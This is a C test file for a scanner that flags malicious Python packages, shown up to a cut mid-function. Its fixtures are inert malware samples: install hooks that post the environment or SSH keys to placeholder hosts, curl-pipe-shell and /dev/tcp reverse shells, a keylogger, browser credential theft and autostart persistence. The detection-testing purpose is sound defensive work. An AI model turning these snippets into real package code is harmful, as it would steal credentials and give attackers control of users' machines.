/* SPDX-License-Identifier: MIT */
/* Behaviour rules, contexts and the per-artifact scanner: one hit and one
 * near miss per rule. Every fixture is inert: hosts are 127.0.0.1,
 * 203.0.113.0/24 (TEST-NET-3) or .invalid, nothing here is ever run. */
#include "rules_tests.h"

/* Highest severity of rule in f, or -1. */
static int sev_of(const struct lg_findings *f, const char *rule)
{
	int sev = -1;

	for (size_t i = 0; i < f->n; i++)
		if (!strcmp(f->v[i].rule, rule) && (int)f->v[i].severity > sev)
			sev = (int)f->v[i].severity;
	return sev;
}

/* Highest severity of any finding, or -1. */
static int max_sev(const struct lg_findings *f)
{
	int sev = -1;

	for (size_t i = 0; i < f->n; i++)
		if ((int)f->v[i].severity > sev)
			sev = (int)f->v[i].severity;
	return sev;
}

static int scan_sev(const char *path, const char *text, const char *rule)
{
	struct lg_findings f = LG_FINDINGS_INIT;
	int sev;

	t_scan(&f, path, text);
	sev = rule ? sev_of(&f, rule) : max_sev(&f);
	lg_findings_dispose(&f);
	return sev;
}

/* Several members as one artifact, in the order given. */
static void scan_artifact(struct lg_findings *f, const char *const *paths,
			  const char *const *texts, size_t n)
{
	struct lg_rules_scan *s = NULL;

	assert_int_equal(lg_rules_scan_new(&s, f), 0);
	for (size_t i = 0; i < n; i++)
		assert_int_equal(lg_rules_scan_add(s, paths[i], texts[i],
						   strlen(texts[i])),
				 0);
	assert_int_equal(lg_rules_scan_finish(s), 0);
	lg_rules_scan_free(s);
}

/* ---- net.exfiltration ---------------------------------------------------- */

static void test_rules_behave__exfil_env(void **state)
{
	(void)state;
	/* C1: the whole environment into a POST, in an install hook. */
	assert_int_equal(
		scan_sev("demo-1.0/setup.py",
			 "import os, json, urllib.request as r\n"
			 "def _stage():\n"
			 "    blob = json.dumps(dict(os.environ)).encode()\n"
			 "    r.urlopen('http://203.0.113.9/x', data=blob)\n"
			 "_stage()\n",
			 LG_RULE_NET_EXFIL),
		LG_SEV_CRITICAL);
	/* C7: host names through an f-string into a socket. */
	assert_int_equal(
		scan_sev("pkg/__init__.py",
			 "import socket, getpass\n"
			 "user = getpass.getuser()\n"
			 "msg = f'GET /?u={user} HTTP/1.1'\n"
			 "s = socket.socket()\n"
			 "s.send(msg.encode())\n",
			 LG_RULE_NET_EXFIL),
		LG_SEV_HIGH);
	/* ... through `+=` and a helper's return value. */
	assert_int_equal(
		scan_sev("pkg/__init__.py",
			 "import socket, requests\n"
			 "def info():\n    return socket.gethostname()\n"
			 "data = 'h='\n"
			 "data += info()\n"
			 "requests.post('https://collector.invalid/', data=data)\n",
			 LG_RULE_NET_EXFIL),
		LG_SEV_HIGH);
}

static void test_rules_behave__exfil_near_misses(void **state)
{
	(void)state;
	/* env copied for a child process, a proxy variable read: no flow
	 * into a network call. */
	assert_int_equal(
		scan_sev("pkg/net.py",
			 "import os, subprocess, requests\n"
			 "env = os.environ.copy()\n"
			 "subprocess.run(['make'], env=env)\n"
			 "proxy = os.environ.get('HTTPS_PROXY')\n"
			 "def get(u):\n    return requests.get(u, proxies={'https': proxy})\n",
			 LG_RULE_NET_EXFIL),
		-1);
	/* lxml: a GitHub token sent to the GitHub API. */
	assert_int_equal(
		scan_sev("pkg-1.0/setup.py",
			 "import os\nfrom urllib.request import urlopen, Request\n"
			 "tok = os.environ.get('GITHUB_API_TOKEN')\n"
			 "def latest():\n"
			 "    return urlopen(Request('https://api.github.com/repos/o/r/releases',"
			 " headers={'Authorization': tok}))\n",
			 LG_RULE_NET_EXFIL),
		-1);
}

/* ---- exec.remote-code, net.download-exec -------------------------------- */

static void test_rules_behave__remote_code(void **state)
{
	(void)state;
	assert_int_equal(
		scan_sev("pkg/__init__.py",
			 "import requests\n"
			 "code = requests.get('http://203.0.113.5/p').text\n"
			 "exec(code)\n",
			 LG_RULE_REMOTE_CODE),
		LG_SEV_CRITICAL);
	/* near miss: a response is parsed, not run */
	assert_int_equal(
		scan_sev("pkg/__init__.py",
			 "import json, requests\n"
			 "def fetch():\n"
			 "    return json.loads(requests.get('https://api.invalid/').text)\n",
			 LG_RULE_REMOTE_CODE),
		-1);
}

static void test_rules_behave__download_exec(void **state)
{
	(void)state;
	/* C3 in setup.py: fetch, write, start. */
	assert_int_equal(
		scan_sev("demo-1.0/setup.py",
			 "import os, requests\n"
			 "def stage():\n"
			 "    rq = requests.get('https://files.invalid/t.exe')\n"
			 "    open('t.exe', 'wb').write(rq.content)\n"
			 "    os.system('start t.exe')\n"
			 "stage()\n",
			 LG_RULE_DOWNLOAD_EXEC),
		LG_SEV_CRITICAL);
	/* lxml: a source tarball from a static host, unpacked, compiled. */
	assert_int_equal(
		scan_sev("demo-1.0/buildlibxml.py",
			 "import subprocess, tarfile\n"
			 "from urllib.request import urlretrieve\n"
			 "def build(dest):\n"
			 "    urlretrieve('https://download.gnome.org/sources/libxml2/2.10/"
			 "libxml2-2.10.3.tar.xz', dest)\n"
			 "    tarfile.open(dest).extractall('b')\n"
			 "    subprocess.check_call(['make', '-C', 'b'])\n",
			 NULL),
		-1);
}

/* A downloaded .py started by a new interpreter is a second stage. */
static void test_rules_behave__download_script(void **state)
{
	(void)state;
	assert_int_equal(
		scan_sev("demo-1.0/setup.py",
			 "import subprocess, sys\n"
			 "import requests as fetch\n"
			 "from setuptools.command.install import install\n"
			 "class Up(install):\n"
			 "    def run(self):\n"
			 "        r = fetch.get('https://cdn.example.invalid/a/u.py')\n"
			 "        with open('u.py', 'wb') as f:\n"
			 "            f.write(r.content)\n"
			 "        subprocess.check_call([sys.executable, 'u.py'])\n",
			 LG_RULE_DOWNLOAD_EXEC),
		LG_SEV_CRITICAL);
	/* near miss: a generated .py is run, nothing was downloaded */
	assert_int_equal(
		scan_sev("demo-1.0/setup.py",
			 "import subprocess, sys\n"
			 "def gen():\n"
			 "    with open('gen_tables.py', 'w') as f:\n"
			 "        f.write(TEMPLATE)\n"
			 "    subprocess.check_call([sys.executable, 'gen_tables.py'])\n"
			 "gen()\n",
			 LG_RULE_DOWNLOAD_EXEC),
		-1);
}

/* The full dropper chain is not lowered in code nothing calls at import;
 * a download planted in site-packages is persistence. */
static void test_rules_behave__dropper_chain(void **state)
{
	(void)state;
	assert_int_equal(
		scan_sev("pkg-1.0/pkg/pr.py",
			 "import os, stat, urllib.request\n"
			 "def rn():\n"
			 "    r = urllib.request.urlopen('http://203.0.113.7/out')\n"
			 "    os.chdir(os.path.expanduser('~'))\n"
			 "    with open('.drv', 'wb') as d:\n"
			 "        d.write(r.read())\n"
			 "    os.chmod('.drv', os.stat('.drv').st_mode | stat.S_IEXEC)\n"
			 "    with open('.bashrc', 'a') as b:\n"
			 "        b.write('~/.drv &')\n",
			 LG_RULE_DOWNLOAD_EXEC),
		LG_SEV_CRITICAL);
	/* an .exe from a file-drop host, written and started: runtime
	 * code, still high */
	assert_int_equal(
		scan_sev("pkg-1.0/pkg/__init__.py",
			 "import os, requests\n"
			 "class dl:\n"
			 "    @staticmethod\n"
			 "    def go():\n"
			 "        p = os.environ['TEMP'] + '\\\\u.exe'\n"
			 "        open(p, 'wb').write(requests.get("
			 "'https://dl.dropbox.com/s/x/u.exe?dl=0').content)\n"
			 "        os.system(p)\n",
			 LG_RULE_DOWNLOAD_EXEC),
		LG_SEV_HIGH);
	/* planted in site-packages by a function import starts */
	assert_int_equal(
		scan_sev("pkg-1.0/pkg/__init__.py",
			 "import os, threading, requests\n"
			 "path = os.path.expanduser('~/.local/lib/python3/"
			 "site-packages/helper')\n"
			 "def init():\n"
			 "    code = requests.get('https://x.example.invalid/r').text\n"
			 "    os.makedirs(path, exist_ok=True)\n"
			 "    with open(path + '/__init__.py', 'w') as f:\n"
			 "        f.write(code)\n"
			 "threading.Thread(target=init).start()\n",
			 LG_RULE_PERSIST),
		LG_SEV_HIGH);
	/* near misses: a download cached under the user's cache dir; a
	 * function that names site-packages but downloads nothing */
	assert_int_equal(
		scan_sev("pkg-1.0/pkg/cache.py",
			 "import os, requests\n"
			 "def fetch(u):\n"
			 "    p = os.path.expanduser('~/.cache/pkg/model.bin')\n"
			 "    with open(p, 'wb') as f:\n"
			 "        f.write(requests.get(u).content)\n"
			 "fetch('https://x.example.invalid/m')\n",
			 LG_RULE_PERSIST),
		-1);
	assert_int_equal(
		scan_sev("pkg-1.0/pkg/where.py",
			 "import site\n"
			 "def sp():\n"
			 "    return [p for p in site.getsitepackages() "
			 "if p.endswith('site-packages')]\n"
			 "def save(p, data):\n"
			 "    open(p, 'w').write(data)\n",
			 LG_RULE_PERSIST),
		-1);
}

/* ---- proc.* ------------------------------------------------------------------
 */

/* Taint kept on self: __init__ collects, run() sends (C1 across methods). */
static void test_rules_behave__self_attribute_taint(void **state)
{
	(void)state;
	assert_int_equal(
		scan_sev("demo-1.0/setup.py",
			 "import json, os, urllib.request\n"
			 "from setuptools.command.install import install\n"
			 "class Hook(install):\n"
			 "    def __init__(self, dist):\n"
			 "        super().__init__(dist)\n"
			 "        self.e = json.dumps(os.environ.copy())\n"
			 "    def run(self):\n"
			 "        urllib.request.urlopen(URL, data=self.e)\n"
			 "        install.run(self)\n",
			 LG_RULE_NET_EXFIL),
		LG_SEV_CRITICAL);
	/* near misses: another class's attribute, a method call */
	assert_int_equal(
		scan_sev("pkg-1.0/pkg/a.py",
			 "import os, requests\n"
			 "class A:\n"
			 "    def __init__(self):\n"
			 "        self.env = dict(os.environ)\n"
			 "class B:\n"
			 "    def send(self):\n"
			 "        requests.post(URL, data=self.env)\n"
			 "    def go(self):\n"
			 "        requests.post(URL, data=self.env())\n",
			 LG_RULE_NET_EXFIL),
		-1);
}

/* A dependency-confusion beacon in a method nobody calls at import stays
 * high; token stores read in one function and posted from another. */
static void test_rules_behave__beacon_and_stores(void **state)
{
	(void)state;
	assert_int_equal(
		scan_sev("pkg-1.0/pkg/calc.py",
			 "import os, socket, requests\n"
			 "class calc:\n"
			 "    def add(x, y):\n"
			 "        p = {'h': socket.gethostname(), 'cwd': os.getcwd()}\n"
			 "        requests.get('https://x.m.pipedream.net/', params=p)\n"
			 "        return x + y\n",
			 LG_RULE_NET_EXFIL),
		LG_SEV_HIGH);
	assert_int_equal(
		scan_sev("pkg-1.0/pkg/calc.py",
			 "import os, socket, requests\n"
			 "class calc:\n"
			 "    def add(x, y):\n"
			 "        p = {'h': socket.gethostname()}\n"
			 "        requests.get('https://telemetry.example.invalid/', params=p)\n",
			 LG_RULE_NET_EXFIL),
		LG_SEV_MEDIUM);
	assert_int_equal(
		scan_sev("pkg-1.0/pkg/__init__.py",
			 "import os\n"
			 "from urllib.request import Request, urlopen\n"
			 "def find(path):\n"
			 "    return os.listdir(path + '\\\\Local Storage\\\\leveldb')\n"
			 "def main():\n"
			 "    urlopen(Request(URL, data=str(find(P)).encode()))\n",
			 LG_RULE_BROWSER_DB),
		LG_SEV_HIGH);
	/* near miss: the store is named, nothing in the file sends */
	assert_true(scan_sev("pkg-1.0/pkg/prof.py",
			     "import os\n"
			     "def find(path):\n"
			     "    return os.listdir(path + '/Local Storage/leveldb')\n",
			     LG_RULE_BROWSER_DB) < (int)LG_SEV_MEDIUM);
}

/* ---- cred.runtime-stealer ------------------------------------------------ */

static void test_rules_behave__runtime_stealer(void **state)
{
	(void)state;
	/* a keylogger that mails what it caught: high even at runtime */
	assert_int_equal(
		scan_sev("pkg-1.0/pkg/sec.py",
			 "import smtplib\n"
			 "from pynput import keyboard\n"
			 "keys = []\n"
			 "def on_press(k):\n    keys.append(k)\n"
			 "def collect():\n"
			 "    with keyboard.Listener(on_press=on_press) as l:\n"
			 "        l.join()\n"
			 "def send():\n"
			 "    s = smtplib.SMTP('mail.example.invalid', 587)\n"
			 "    s.sendmail('a', 'b', ''.join(keys))\n",
			 LG_RULE_RUNTIME_STEALER),
		LG_SEV_HIGH);
	/* a screenshot sent from code nothing calls at import: lowered */
	assert_int_equal(
		scan_sev("pkg-1.0/pkg/shot.py",
			 "import requests\n"
			 "from PIL import ImageGrab\n"
			 "def shot():\n"
			 "    ImageGrab.grab().save('s.png')\n"
			 "    requests.post(URL, files={'f': open('s.png', 'rb')})\n",
			 LG_RULE_RUNTIME_STEALER),
		LG_SEV_MEDIUM);
	/* near misses: a hotkey tool without network; a screenshot tool */
	assert_int_equal(
		scan_sev("pkg-1.0/pkg/hot.py",
			 "from pynput import keyboard\n"
			 "def watch(cb):\n"
			 "    with keyboard.Listener(on_press=cb) as l:\n"
			 "        l.join()\n",
			 LG_RULE_RUNTIME_STEALER),
		-1);
	assert_int_equal(
		scan_sev("pkg-1.0/pkg/snap.py",
			 "import pyautogui\n"
			 "def snap(p):\n    pyautogui.screenshot(p)\n",
			 LG_RULE_RUNTIME_STEALER),
		-1);
}

/* ---- proc.import-process ------------------------------------------------- */

static void test_rules_behave__import_process(void **state)
{
	(void)state;
	/* a second interpreter importing another module, on import */
	assert_int_equal(
		scan_sev("pkg-1.0/pkg/__init__.py",
			 "import subprocess\n"
			 "try:\n"
			 "    p = subprocess.Popen(['python3', '-c', 'import helper'],"
			 " close_fds=True)\n"
			 "except Exception:\n    pass\n",
			 LG_RULE_IMPORT_PROCESS),
		LG_SEV_HIGH);
	/* a script written to /tmp and started detached through a shell */
	assert_int_equal(
		scan_sev("pkg-1.0/pkg/color.py",
			 "import subprocess\n"
			 "def check():\n"
			 "    subprocess.call('python3 /tmp/file.py &', shell=True)\n"
			 "check()\n",
			 LG_RULE_IMPORT_PROCESS),
		LG_SEV_HIGH);
	/* a sibling script, from a function module code calls */
	assert_int_equal(
		scan_sev("pkg-1.0/pkg/tools.py",
			 "import os, sys, subprocess\n"
			 "def start():\n"
			 "    subprocess.Popen([sys.executable, 'agent.py'])\n"
			 "start()\n",
			 LG_RULE_IMPORT_PROCESS),
		LG_SEV_HIGH);
}

static void test_rules_behave__import_process_near_misses(void **state)
{
	(void)state;
	/* platform probes at import (kivy's xclip, torch's hipconfig) */
	assert_int_equal(
		scan_sev("pkg-1.0/pkg/clip.py",
			 "import subprocess\n"
			 "p = subprocess.Popen(['xclip', '-version'],"
			 " stdout=subprocess.PIPE)\n",
			 LG_RULE_IMPORT_PROCESS),
		-1);
	/* a function nothing calls at import, the __main__ block, a test */
	assert_int_equal(
		scan_sev("pkg-1.0/pkg/cli.py",
			 "import subprocess, sys\n"
			 "def run():\n"
			 "    subprocess.call([sys.executable, '-m', 'pkg.worker'])\n"
			 "if __name__ == '__main__':\n"
			 "    subprocess.call(['python3', '-c', 'print(1)'])\n",
			 LG_RULE_IMPORT_PROCESS),
		-1);
	assert_int_equal(
		scan_sev("pkg-1.0/tests/test_cli.py",
			 "import subprocess, sys\n"
			 "subprocess.check_call([sys.executable, '-c', 'import pkg'])\n",
			 LG_RULE_IMPORT_PROCESS),
		-1);
}

static void test_rules_behave__lolbin(void **state)
{
	(void)state;
	assert_int_equal(
		scan_sev("demo-1.0/setup.py",
			 "import subprocess\n"
			 "from setuptools.command.install import install\n"
			 "class I(install):\n"
			 "    def run(self):\n"
			 "        subprocess.Popen('curl -s http://203.0.113.7/s | sh',"
			 " shell=True)\n",
			 LG_RULE_LOLBIN),
		LG_SEV_CRITICAL);
	/* a local wrapper: def run(cmd): Popen(cmd, shell=True) */
	assert_int_equal(
		scan_sev("demo-1.0/setup.py",
			 "import subprocess\n"
			 "def run(cmd):\n"
			 "    return subprocess.Popen(cmd, shell=True)\n"
			 "run('powershell -EncodedCommand AAAA')\n",
			 LG_RULE_LOLBIN),
		LG_SEV_CRITICAL);
	/* a decoded constant as the command */
	assert_int_equal(
		scan_sev("demo-1.0/setup.py",
			 "import os, base64\n"
			 "os.system(base64.b64decode('ZWNobyBoaQ=='))\n",
			 LG_RULE_LOLBIN),
		LG_SEV_CRITICAL);
	/* near misses: hg templates with '|short', wget in a runtime tool,
	 * a decoded value passed as an argument */
	assert_true(scan_sev("pkg/stamp.py",
			     "import subprocess\n"
			     "def rev():\n"
			     "    return subprocess.Popen(['hg', 'tip', '--template',"
			     " '{node|short}'])\n",
			     LG_RULE_LOLBIN) < LG_SEV_HIGH);
	assert_true(scan_sev("pkg/tools/get.py",
			     "import subprocess\n"
			     "def get(url, fn):\n"
			     "    cmd = ['wget', url, '-O', fn]\n"
			     "    subprocess.check_call(cmd)\n"
			     "if __name__ == '__main__':\n"
			     "    get('https://example.invalid/x', 'x')\n",
			     LG_RULE_LOLBIN) < LG_SEV_HIGH);
	assert_int_equal(
		scan_sev("pkg/ca.py",
			 "import base64\nfrom subprocess import Popen\n"
			 "def rm(enc):\n"
			 "    Popen(['getcert', 'remove-ca', '-c', base64.b64decode(enc)])\n",
			 LG_RULE_LOLBIN),
		-1);
}

static void test_rules_behave__reverse_shell(void **state)
{
	(void)state;
	assert_int_equal(
		scan_sev("pkg/__init__.py",
			 "import socket, os, pty\n"
			 "def sh():\n"
			 "    s = socket.socket()\n"
			 "    s.connect(('203.0.113.4', 4444))\n"
			 "    for fd in (0, 1, 2):\n"
			 "        os.dup2(s.fileno(), fd)\n"
			 "    pty.spawn('/bin/sh')\n"
			 "sh()\n",
			 LG_RULE_REVERSE_SHELL),
		LG_SEV_CRITICAL);
	assert_int_equal(
		scan_sev("demo-1.0/setup.py",
			 "import os\n"
			 "os.system(\"bash -c 'bash -i >& /dev/tcp/203.0.113.4/4444 0>&1'\")\n",
			 LG_RULE_REVERSE_SHELL),
		LG_SEV_CRITICAL);
	/* near miss: a pty helper with no socket (pexpect-style) */
	assert_int_equal(scan_sev("pkg/term.py",
				  "import os, pty\n"
				  "def spawn(argv):\n"
				  "    pty.spawn(argv)\n"
				  "    os.dup2(0, 3)\n",
				  LG_RULE_REVERSE_SHELL),
			 -1);
}

static void test_rules_behave__persist_and_miner(void **state)
{
	(void)state;
	assert_int_equal(
		scan_sev("demo-1.0/setup.py",
			 "import os\n"
			 "p = os.path.expanduser('~/.bashrc')\n"
			 "with open(p, 'a') as f:\n"
			 "    f.write('~/.cache/x &\\n')\n",
			 LG_RULE_PERSIST),
		LG_SEV_CRITICAL);
	assert_int_equal(
		scan_sev("pkg/__init__.py",
			 "import winreg\n"
			 "def keep(path):\n"
			 "    k = winreg.CreateKey(winreg.HKEY_CURRENT_USER,"
			 " 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run')\n"
			 "    winreg.SetValueEx(k, 'u', 0, winreg.REG_SZ, path)\n"
			 "keep('x')\n",
			 LG_RULE_PERSIST),
		LG_SEV_HIGH);
	/* a file moved into the Startup folder from an install hook */
	assert_int_equal(
		scan_sev("demo-1.0/setup.py",
			 "import os\n"
			 "def plant(src):\n"
			 "    dst = os.path.join(os.environ['APPDATA'], r'Microsoft"
			 "\\Windows\\Start Menu\\Programs\\Startup\\u.py')\n"
			 "    os.rename(src, dst)\n"
			 "plant('u.py')\n",
			 LG_RULE_PERSIST),
		LG_SEV_CRITICAL);
	/* near miss: a rename that names no autostart location */
	assert_int_equal(scan_sev("demo-1.0/setup.py",
				  "import os\n"
				  "def mv():\n"
				  "    os.rename('build/lib.tmp', 'build/lib')\n"
				  "mv()\n",
				  LG_RULE_PERSIST),
			 -1);
	/* near miss: reading a shell rc file for completion setup */
	assert_int_equal(scan_sev("pkg/compl.py",
				  "import os\n"
				  "def has_rc():\n"
				  "    return os.path.exists(os.path.expanduser('~/.bashrc'))\n",
				  LG_RULE_PERSIST),
			 -1);
	assert_int_equal(scan_sev("pkg/__init__.py",
				  "POOL = 'stratum+tcp://pool.invalid:3333'\n"
				  "def cfg():\n    return {'url': POOL}\n",
				  LG_RULE_MINER),
			 LG_SEV_HIGH);
	assert_int_equal(scan_sev("pkg/__init__.py",
				  "\"\"\"Not a miner: we mention xmrig in docs.\"\"\"\n",
				  LG_RULE_MINER),
			 -1);
}

/* ---- network destinations, install-time network ------------------------- */

static void test_rules_behave__destinations(void **state)
{
	(void)state;
	/* module level of a package module: runs on import */
	assert_int_equal(
		scan_sev("pkg/__init__.py",
			 "import requests\n"
			 "requests.post('https://discord.com/api/webhooks/1/x', json={})\n",
			 LG_RULE_SUSPICIOUS_DEST),
		LG_SEV_HIGH);
	/* near misses: loopback, a docstring, an unused constant */
	assert_int_equal(
		scan_sev("pkg/__init__.py",
			 "\"\"\"See https://webhook.site for tests.\"\"\"\n"
			 "import requests\n"
			 "HOOK = 'https://pastebin.com/raw/x'\n"
			 "def ping():\n    return requests.get('http://127.0.0.1:8000/')\n",
			 LG_RULE_SUSPICIOUS_DEST),
		-1);
}

/* E2: a destination hidden in base64. */
static void test_rules_behave__encoded_destination(void **state)
{
	(void)state;
	/* base64 of 'x.example.invalid' */
	assert_int_equal(
		scan_sev("demo-1.0/setup.py",
			 "import base64, socket\n"
			 "def beacon():\n"
			 "    socket.gethostbyname(base64.b64decode("
			 "'eC5leGFtcGxlLmludmFsaWQ='))\n"
			 "beacon()\n",
			 LG_RULE_SUSPICIOUS_DEST),
		LG_SEV_HIGH);
	/* near miss: a decoded payload stays local; a plain host */
	assert_int_equal(
		scan_sev("pkg/__init__.py",
			 "import base64, requests\n"
			 "ICON = base64.b64decode('aGVsbG8=')\n"
			 "def ping():\n"
			 "    return requests.get('https://api.example.invalid/v1')\n",
			 LG_RULE_SUSPICIOUS_DEST),
		-1);
}

static void test_rules_behave__setup_network(void **state)
{
	(void)state;
	assert_int_equal(
		scan_sev("demo-1.0/setup.py",
			 "import urllib.request\n"
			 "urllib.request.urlopen('http://203.0.113.8/ping')\n",
			 LG_RULE_SETUP_NETWORK),
		LG_SEV_CRITICAL);
	assert_int_equal(
		scan_sev("demo-1.0/setup.py",
			 "import requests\n"
			 "requests.get('https://stats.example.invalid/install')\n",
			 LG_RULE_SETUP_NETWORK),
		LG_SEV_HIGH);
	/* flash-attention: a prebuilt wheel from the project's GitHub
	 * releases; a URL built at run time is only a warning */
	assert_int_equal(
		scan_sev("demo-1.0/setup.py",
			 "import urllib.request\n"
			 "BASE = 'https://github.com/o/r/releases/download/{t}/{n}'\n"
			 "def fetch(t, n):\n"
			 "    urllib.request.urlretrieve(BASE.format(t=t, n=n), n)\n",
			 LG_RULE_SETUP_NETWORK),
		LG_SEV_LOW);
	assert_int_equal(scan_sev("demo-1.0/setup.py",
				  "import urllib.request\n"
				  "def fetch(u, n):\n"
				  "    urllib.request.urlretrieve(u, n)\n",
				  LG_RULE_SETUP_NETWORK),
			 LG_SEV_MEDIUM);
	/* the same call in a package module is not install-time */
	assert_int_equal(scan_sev("pkg/fetch.py",
				  "import urllib.request\n"
				  "def fetch(u, n):\n"
				  "    urllib.request.urlretrieve(u, n)\n",
				  LG_RULE_SETUP_NETWORK),
			 -1);
}

/* ---- cred.* ------------------------------------------------------------------
 */

static void test_rules_behave__credentials(void **state)
{
	(void)state;
	assert_int_equal(
		scan_sev("pkg/grab.py",
			 "import os, requests\n"
			 "def grab():\n"
			 "    p = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome',"
			 " 'User Data', 'Default', 'Login Data')\n"
			 "    requests.post('https://collector.invalid/', files={'f': open(p, 'rb')})\n",
			 LG_RULE_BROWSER_DB),
		LG_SEV_HIGH);
	assert_int_equal(
		scan_sev("pkg/grab.py",
			 "import requests\n"
			 "def grab():\n"
			 "    key = open('/root/.ssh/id_rsa').read()\n"
			 "    requests.post('https://collector.invalid/', data=key)\n",
			 LG_RULE_NET_EXFIL),
		LG_SEV_HIGH);
	/* a stealer class: paths kept on self in one method, sent in
	 * another */
	assert_int_equal(
		scan_sev("pkg/grab.py",
			 "import os, json, urllib.request\n"
			 "class Grab:\n"
			 "    def __init__(self):\n"
			 "        self.paths = ['Discord/Local Storage/leveldb']\n"
			 "    def send(self, hook):\n"
			 "        urllib.request.urlopen(hook, data=json.dumps(self.t).encode())\n",
			 LG_RULE_BROWSER_DB),
		LG_SEV_HIGH);
	/* near misses: a key path with no network; a secret-masking regex */
	assert_int_equal(scan_sev("pkg/ssh.py",
				  "import os\n"
				  "KEY = os.path.expanduser('~/.ssh/id_rsa')\n"
				  "def load():\n    return open(KEY).read()\n",
				  NULL),
			 -1);
	assert_int_equal(scan_sev("pkg/mask.py",
				  "import re\n"
				  "_KEYS = ['password', 'admin_pass', 'encrypted_key']\n"
				  "def mask(s):\n    return re.sub('x', 'y', s)\n",
				  LG_RULE_BROWSER_DB),
			 LG_SEV_LOW);
}

/* ---- exec.dynamic-dispatch, obfuscated exec, encoded code ---------------- */

static void test_rules_behave__dispatch(void **state)
{
	(void)state;
	assert_int_equal(
		scan_sev("pkg/__init__.py",
			 "_e = eval(\"\\x65\\x76\\x61\\x6c\")\n",
			 LG_RULE_DYNAMIC_DISPATCH),
		LG_SEV_HIGH);
	assert_int_equal(
		scan_sev("demo-1.0/setup.py",
			 "import builtins\n"
			 "f = getattr(builtins, 'ex' + 'ec')\n",
			 LG_RULE_DYNAMIC_DISPATCH),
		LG_SEV_CRITICAL);
	/* folded through chr() codes, at import time */
	assert_int_equal(
		scan_sev("pkg/__init__.py",
			 "import builtins\n"
			 "f = getattr(builtins, ''.join(map(chr, [101, 120, 101, 99])))\n",
			 LG_RULE_DYNAMIC_DISPATCH),
		LG_SEV_HIGH);
	/* a process command built by concatenation */
	assert_int_equal(
		scan_sev("pkg/__init__.py",
			 "import os\n"
			 "os.system('cu' + 'rl -s http://203.0.113.9/x | ' + 'sh')\n",
			 LG_RULE_LOLBIN),
		LG_SEV_HIGH);
	/* six-style shims stay below high */
	assert_true(scan_sev("pkg/compat.py",
			     "import builtins\n"
			     "exec_ = getattr(builtins, 'exec')\n"
			     "exec2 = eval('exec')\n",
			     NULL) < LG_SEV_HIGH);
}

static void test_rules_behave__obfuscated_exec(void **state)
{
	(void)state;
	assert_int_equal(scan_sev("pkg/__init__.py",
				  "exec(''.join(map(chr, [112, 114, 105, 110, 116])))\n",
				  LG_RULE_DECODE_EXEC),
			 LG_SEV_HIGH);
	assert_int_equal(
		scan_sev("pkg/__init__.py",
			 "k = 'zyxwvutsrqponmlkjihgfedcba'\n"
			 "exec(''.join(k[ord(c) - 97] if c.isalpha() else c for c in"
			 " 'kirmg(\\'sr\\') # zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz'))\n",
			 LG_RULE_DECODE_EXEC),
		LG_SEV_HIGH);
	/* near misses: model.eval(), a reversed variable, code generation
	 * from a readable template */
	assert_int_equal(
		scan_sev("pkg/m.py",
			 "def f(model, ids, ns):\n"
			 "    model.eval()\n"
			 "    name = '.'.join(ids[::-1])\n"
			 "    return eval(name, ns)\n"
			 "TEMPLATE = 'def __init__(self, %s):\\n    pass\\n'\n"
			 "def gen(a):\n    exec(TEMPLATE % a)\n",
			 NULL),
		-1);
}

static void test_rules_behave__encoded_code(void **state)
{
	(void)state;
	/* base64 of "import os\nos.system('id')\n": the decoded code is
	 * scanned too, with the context of the constant. */
	assert_int_equal(
		scan_sev("pkg/__init__.py",
			 "import base64\n"
			 "P = 'aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8vMjAzLjAuMTEzLjkvcyB8IHNoJykK'\n",
			 LG_RULE_ENCODED_CODE),
		LG_SEV_MEDIUM);
	assert_int_equal(
		scan_sev("pkg/__init__.py",
			 "import base64\n"
			 "P = 'aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8vMjAzLjAuMTEzLjkvcyB8IHNoJykK'\n",
			 LG_RULE_LOLBIN),
		LG_SEV_HIGH);
	/* source text in a string, written out and started by a dropper */
	assert_int_equal(
		scan_sev("demo-1.0/setup.py",
			 "S = b\"from urllib.request import urlopen;"
			 "exec(urlopen('http://203.0.113.2/p').read())\"\n",
			 LG_RULE_REMOTE_CODE),
		LG_SEV_CRITICAL);
	/* near miss: an inline PNG */
	assert_int_equal(
		scan_sev("pkg/assets.py",
			 "ICON = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
			 "YPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='\n",
			 NULL),
		-1);
}

/* ---- contexts and the per-artifact scanner ------------------------------- */

/* A local module that setup.py reaches by `import pkg.mod` (which binds
 * only pkg) or runs with `-m pkg.mod` is install code; one nothing reaches
 * is not. */
static void test_rules_behave__install_chain(void **state)
{
	static const char *const paths[] = {
		"demo-1.0/setup.py", "demo-1.0/build_cfg/__init__.py",
		"demo-1.0/build_cfg/hook.py", "demo-1.0/demo/__init__.py",
		"demo-1.0/demo/beacon.py", "demo-1.0/demo/other.py"};
	static const char *const texts[] = {
		"import subprocess, sys\n"
		"from setuptools import setup\n"
		"from build_cfg import kwargs\n"
		"subprocess.run([sys.executable, '-m', 'demo.beacon'])\n"
		"setup(**kwargs)\n",
		"import build_cfg.hook\nkwargs = {'name': 'demo'}\n",
		"import urllib.request\n"
		"def go():\n    urllib.request.urlopen(URL, data=b'x')\n",
		"",
		"import socket, requests\n"
		"def main():\n"
		"    requests.post(U, json={'h': socket.gethostname()})\n"
		"if __name__ == '__main__':\n    main()\n",
		"import socket, requests\n"
		"def main():\n"
		"    requests.post(U, json={'h': socket.gethostname()})\n"};
	struct lg_findings f = LG_FINDINGS_INIT;
	size_t in_hook = 0, beacon = 0, other = 0;

	(void)state;
	scan_artifact(&f, paths, texts, LG_ARRAY_SIZE(paths));
	for (size_t i = 0; i < f.n; i++) {
		const struct lg_finding *x = &f.v[i];
		bool install = strstr(x->message, "install context") != NULL;

		in_hook += !strcmp(x->path, paths[2]) && install;
		beacon += !strcmp(x->path, paths[4]) && install &&
			  x->severity >= LG_SEV_HIGH;
		other += !strcmp(x->path, paths[5]) &&
			 x->severity >= LG_SEV_HIGH;
	}
	assert_true(in_hook >= 1);
	assert_true(beacon >= 1);
	assert_int_equal(other, 0);
	lg_findings_dispose(&f);
}

static void test_rules_behave__contexts(void **state)
{
	static const char *const paths[] = {
